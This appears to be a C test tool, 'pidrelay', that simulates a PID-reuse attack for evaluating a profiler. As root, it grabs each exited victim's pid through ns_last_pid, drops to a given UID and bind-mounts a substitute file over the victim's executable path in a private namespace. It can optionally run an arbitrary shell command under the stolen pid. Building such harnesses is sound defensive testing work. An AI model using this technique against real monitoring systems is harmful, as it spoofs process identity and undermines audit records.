// SPDX-License-Identifier: GPL-2.0
/*
 * A short-lived victim's pid taken the moment it exits (issue 46, trust
 * round 4): ROUNDS times, run COMMAND (as this process's user, root; a
 * "%d" in COMMAND's path is the round's number, 0 on), wait for it, and at
 * once ask the kernel for its pid (ns_last_pid, as pidtaker does; another
 * process may take it first, then ask again) for a child that becomes UID
 * (group too, no others), makes a user and mount namespace of its own
 * (uid and gid 0 there are UID) and there bind-mounts FILE over COMMAND's
 * path; then it holds the pid for SECONDS (sleeping) and exits. The
 * taker begins within a millisecond or two of the victim's end: what a
 * user reaches by forking through the pids at the right moment.
 *
 * Prints "took PID mounted" per round whose pid was taken and whose mount
 * was made ("took PID unmounted" if the mount failed, "took PID" without
 * a FILE, "missed PID" if the pid went to another process), then
 * "rounds=R taken=T mounted=M" (M counts the takers that were ready), and
 * exits at once: the takers hold their pids after it (a profile of this
 * command ends, and looks at what it recorded, while they do). With FILE
 * "-", no namespace and no mount: the taker holds the pid as UID only.
 * With PIDRELAY_EXEC=CMD the taker, its mount made, runs `/bin/sh -c CMD`
 * (exec: the pid stays) instead of sleeping.
 * Usage: pidrelay ROUNDS UID SECONDS FILE COMMAND [ARG...]
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

/* The next fork gets want, if no other process forks first. */
static int ask_for(pid_t want)
{
	int fd = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
	char buf[16];
	int n, ok;

	if (fd < 0)
		return 0;
	n = snprintf(buf, sizeof(buf), "%d", (int)want - 1);
	ok = write(fd, buf, (size_t)n) == n;
	return close(fd) == 0 && ok;
}

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = write(fd, text, strlen(text));
	close(fd);
	return n == (ssize_t)strlen(text) ? 0 : -1;
}

/* In the child holding the pid: become uid, mount file over path in namespaces of its own. */
static int take_over(uid_t uid, const char *file, const char *path)
{
	char map[64];

	/* Dumpable again (setuid made it not): its /proc/self files are its own to write. */
	if (setgroups(0, NULL) || setgid(uid) || setuid(uid) || prctl(PR_SET_DUMPABLE, 1))
		return -1;
	if (!strcmp(file, "-"))
		return 0;
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return -1;
	snprintf(map, sizeof(map), "0 %u 1", (unsigned int)uid);
	if (write_file("/proc/self/setgroups", "deny") || write_file("/proc/self/uid_map", map) ||
	    write_file("/proc/self/gid_map", map))
		return -1;
	if (mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL))
		return -1;
	return mount(file, path, NULL, MS_BIND, NULL);
}

/*
 * A child with pid want, as uid, its mount made: 1 if mounted, 0 if taken
 * without it, -1 if the pid went elsewhere.
 */
static int relay(pid_t want, uid_t uid, unsigned int seconds, const char *file, const char *path)
{
	for (int attempt = 0; attempt < 100; attempt++) {
		int pipefd[2];
		pid_t pid;
		char c = 0;

		if (!ask_for(want) || pipe2(pipefd, O_CLOEXEC))
			return -1;
		pid = fork();
		if (pid < 0)
			return -1;
		if (pid == 0) {
			const char *cmd = getenv("PIDRELAY_EXEC");

			if (getpid() != want)
				_exit(0);
			close(pipefd[0]);
			c = take_over(uid, file, path) ? 'n' : 'y';
			if (write(pipefd[1], &c, 1) != 1)
				_exit(1);
			close(pipefd[1]);
			if (cmd && c == 'y') {
				execl("/bin/sh", "sh", "-c", cmd, (char *)NULL);
				_exit(127);
			}
			sleep(seconds);
			_exit(0);
		}
		close(pipefd[1]);
		if (pid != want) {
			close(pipefd[0]);
			waitpid(pid, NULL, 0);
			continue;
		}
		if (read(pipefd[0], &c, 1) != 1)
			c = 'n';
		close(pipefd[0]);
		return c == 'y';
	}
	return -1;
}

int main(int argc, char **argv)
{
	int rounds, taken = 0, mounted = 0;
	unsigned int seconds;
	char path[4096];
	uid_t uid;

	if (argc < 6)
		return 2;
	rounds = atoi(argv[1]);
	uid = (uid_t)atoi(argv[2]);
	seconds = (unsigned int)atoi(argv[3]);
	for (int i = 0; i < rounds; i++) {
		int status, got;
		pid_t v;

		/* The command's path for round i ("%d" in it, if any). */
		if (strstr(argv[5], "%d"))
			snprintf(path, sizeof(path), argv[5], i);
		else
			snprintf(path, sizeof(path), "%s", argv[5]);
		v = fork();
		if (v < 0)
			return 1;
		if (v == 0) {
			argv[5] = path;
			execv(path, argv + 5);
			_exit(127);
		}
		if (waitpid(v, &status, 0) != v || !WIFEXITED(status) || WEXITSTATUS(status))
			return 1;
		got = relay(v, uid, seconds, argv[4], path);
		if (got < 0) {
			printf("missed %d\n", (int)v);
		} else {
			taken++;
			mounted += got;
			printf("took %d%s\n", (int)v,
			       !strcmp(argv[4], "-") ? "" : got ? " mounted" : " unmounted");
		}
		fflush(stdout);
	}
	printf("rounds=%d taken=%d mounted=%d\n", rounds, taken, mounted);
	return 0;
}
